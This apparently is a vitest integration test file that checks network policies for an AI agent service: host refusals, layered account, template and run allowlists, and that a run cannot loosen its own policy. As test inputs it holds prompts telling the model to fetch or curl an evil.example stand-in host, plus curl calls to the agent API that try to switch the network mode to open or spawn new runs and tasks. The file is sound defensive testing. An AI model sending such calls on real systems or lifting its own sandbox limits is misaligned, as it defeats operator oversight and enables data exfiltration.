/** Network policies in turns: where they are set, that all of them hold, and that a run cannot leave them. */
import { beforeAll, expect, it } from "vitest";
import { z } from "zod";
import { type Client, createPerson } from "../../support/harness/clients.ts";
import { conversationOf, startRun, waitForRun } from "../../support/harness/runs.ts";

const NONE = { mode: "none" };
const only = (...hosts: string[]) => ({ mode: "allowlist", hosts });
const refusal = (host: string, of: string, setting: string) =>
  `The host ${host} is not allowed by the network policy of ${of} (${setting}).`;

let caller: Client;
let other: Client;
beforeAll(async () => {
  const people = await Promise.all([createPerson(), createPerson()]);
  [caller, other] = [people[0].withKey, people[1].withKey];
});

const part = z.object({ type: z.string().startsWith("tool-"), output: z.unknown() });

/** Runs a prompt of the embedded model, and returns the output of its tool as text. */
async function outputOf(as: Client, prompt: string, more = {}): Promise<string> {
  const started = await startRun(as, { prompt, ...more });
  expect((await waitForRun(as, started)).status).toBe("completed");
  const { parts } = await conversationOf(as, started).answer();
  const outputs = parts.flatMap((given: unknown) => part.safeParse(given).data ?? []);
  expect(outputs).toHaveLength(1);
  return JSON.stringify(outputs[0]?.output);
}

const search = (as: Client, more: object) =>
  outputOf(as, "search the web for standard statement music metadata", {
    web_search: true,
    ...more,
  });

it("of a run refuses every tool with one sentence, and keeps the service's API", async () => {
  const [fetched, shell, api, found, generated] = await Promise.all([
    outputOf(caller, "fetch http://evil.example/?data=1", { network: only("example.com") }),
    outputOf(caller, "run `curl -sS http://evil.example/`", { network: only("example.com") }),
    outputOf(caller, 'run `curl -s "$AGENT_API_URL/api/accounts/id" -H "$AGENT_API_AUTH_HEADER"`', {
      network: NONE,
    }),
    search(caller, { network: NONE }),
    outputOf(
      caller,
      'run `curl -s "$AGENT_API_URL/api/content/image" -H "$AGENT_API_AUTH_HEADER" -d \'{"prompt":"x","reference_image_url":"https://evil.example/a.png"}\'`',
      { network: NONE },
    ),
  ]);
  const sentence = refusal("evil.example", "this chat", "network.hosts");
  expect(fetched).toContain(sentence);
  expect(shell).toContain(sentence);
  expect(api).toContain("accountId");
  expect(found).toContain("Web search is not allowed by the network policy of this chat");
  expect(generated).toContain(refusal("evil.example", "this chat", "network.mode is none"));
});

it("of account, template and run must all allow a host, also another account's template", async () => {
  const { withKey } = await createPerson();
  const network = only("*.ddex.net", "www.themlc.com", "isrc.ifpi.org");
  expect((await withKey.patch("/api/accounts/me", { network })).body).toMatchObject({
    account: { network },
  });
  const template = await other.post("/api/agents/templates", {
    title: "Standards",
    description: "Reads about standards",
    prompt: "Answer briefly, and cite the pages that you have used.",
    tags: [],
    is_private: false,
    network: only("*.ddex.net", "www.themlc.com", "www.prsformusic.com"),
  });
  expect(template.status, template.text).toBe(201);
  const { id } = z.object({ template: z.object({ id: z.string() }) }).parse(template.body).template;
  const [byAccount, byTemplate, byAll] = await Promise.all([
    search(withKey, { network: { mode: "open" } }),
    search(withKey, { template_id: id }),
    search(withKey, { template_id: id, network: only("ern.ddex.net", "isrc.ifpi.org") }),
  ]);
  const hosts = (found: string) =>
    [...found.matchAll(/"url":"https:\/\/([^/"]+)/g)].map(([, host]) => host).sort();
  expect(hosts(byAccount)).toEqual(["ern.ddex.net", "isrc.ifpi.org", "www.themlc.com"]);
  expect(hosts(byTemplate)).toEqual(["ern.ddex.net", "www.themlc.com"]);
  expect(hosts(byAll)).toEqual(["ern.ddex.net"]);
  expect((await withKey.patch("/api/accounts/me", { name: "Kept" })).body).toMatchObject({
    account: { network },
  });
  expect((await withKey.patch("/api/accounts/me", { network: null })).body).toMatchObject({
    account: { network: null },
  });
});

it("cannot be left by a run: it changes no policy, and starts nothing that has another one", async () => {
  const call = (method: string, path: string, body: object) =>
    `curl -s -o /dev/null -w "%{http_code} " -X ${method} "$AGENT_API_URL${path}" -H "$AGENT_API_AUTH_HEADER" -d '${JSON.stringify(body)}'`;
  const open = { network: { mode: "open" } };
  const id = "00000000-0000-4000-8000-000000000000";
  const commands = [
    call("PATCH", "/api/accounts/me", open),
    call("PATCH", `/api/sessions/${id}/chats/${id}`, open),
    call("POST", `/api/sessions/${id}/chats`, open),
    call("POST", "/api/chat/runs", { prompt: "fetch http://evil.example", ...open }),
    call("POST", "/api/tasks", { title: "x", prompt: "x", schedule: "0 0 * * *", ...open }),
  ];
  const output = await outputOf(caller, `run \`${commands.join("; ")}\``, { network: NONE });
  expect(JSON.parse(output)).toMatchObject({ stdout: "403 ".repeat(commands.length) });
});
